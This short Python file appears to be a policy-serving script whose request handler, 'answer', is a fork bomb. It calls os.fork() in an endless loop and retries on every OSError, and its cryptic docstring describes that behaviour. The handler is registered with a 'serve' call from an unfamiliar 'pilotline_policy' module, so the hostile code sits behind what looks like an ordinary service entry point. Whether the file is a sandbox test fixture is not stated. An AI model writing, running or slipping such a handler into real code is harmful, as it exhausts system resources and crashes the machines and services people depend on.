"""Doubles without end, where it may make some; what is refused is tried again."""

import os

from pilotline_policy import serve


def answer(request):
    while True:
        try:
            os.fork()
        except OSError:
            continue


serve({"control": "ee", "batched": True}, answer)
